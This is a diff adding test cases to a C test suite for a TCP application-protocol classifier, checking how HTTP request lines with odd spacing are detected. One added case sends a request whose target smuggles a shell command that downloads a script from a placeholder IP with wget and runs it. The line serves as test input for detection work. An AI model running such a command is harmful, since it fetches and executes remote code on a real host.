@@ -74,6 +74,21 @@ static void http_rpc(struct talk *t)
 	say_text(t, 0, "RPC_IN_DATA /rpc/rpcproxy.dll?srv:6001 HTTP/1.1\r\n\r\n");
 }
 
+static void http_blanks(struct talk *t) /* servers accept them, and attackers send them */
+{
+	say_text(t, 0, "GET /run?cd /tmp; wget http://192.0.2.9/x.sh; sh x.sh HTTP/1.1\r\n\r\n");
+}
+
+static void http_more_blanks(struct talk *t)
+{
+	say_text(t, 0, "GET  /  HTTP/1.0 \r\n\r\n");
+}
+
+static void http_in_a_sentence(struct talk *t)
+{
+	say_text(t, 0, "NOTICE all: HTTP/1.1 is meant\r\nGET / HTTP/1.1\r\n\r\n");
+}
+
 static void http_answer_alone(struct talk *t)
 {
 	say_text(t, 0, "HTTP/1.1 200 OK\r\n\r\n");
@@ -557,6 +572,12 @@ static const struct tcp_case cases[] = {
 	  0 },
 	{ "HTTP POST", http_post, { .app = LYA_APP_HTTP, .client = 0, .service = true }, 0 },
 	{ "RPC over HTTP", http_rpc, { .app = LYA_APP_HTTP, .client = 0, .service = true }, 0 },
+	{ "HTTP, blanks in the target", http_blanks, { .app = LYA_APP_HTTP, .client = 0 }, 0 },
+	{ "HTTP, more blanks than due", http_more_blanks, { .app = LYA_APP_HTTP, .client = 0 }, 0 },
+	{ "HTTP named in a sentence",
+	  http_in_a_sentence,
+	  { .app = LYA_APP_UNKNOWN, .client = -1, .service = true },
+	  LYA_APP_HTTP },
 	{ "HTTP answer alone", http_answer_alone, { .app = LYA_APP_HTTP, .client = 1 }, 0 },
 	{ "XMPP, STARTTLS",
 	  xmpp_starttls,
